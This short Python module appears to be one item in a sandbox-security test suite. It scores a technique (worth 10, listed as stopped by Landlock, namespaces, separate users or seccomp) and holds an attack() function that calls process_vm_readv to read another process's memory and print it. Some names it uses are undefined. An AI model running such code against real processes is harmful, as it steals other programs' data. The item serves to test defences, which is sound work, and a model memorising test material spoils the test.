"""The kernel copies memory from process to process, without any file."""

import ctypes

EARNS = "10"
STOPPED_BY = ("Landlock", "namespaces", "own user", "seccomp")
EVIDENCE = "remembered"


def attack():
    found = ctypes.create_string_buffer(32)
    here = (ctypes.c_uint64 * 2)(ctypes.addressof(found), 32)
    there = (ctypes.c_uint64 * 2)(ADDRESS, 32)
    syscall("process_vm_readv", VICTIM_PID, here, 1, there, 1, 0)
    print(found.value)
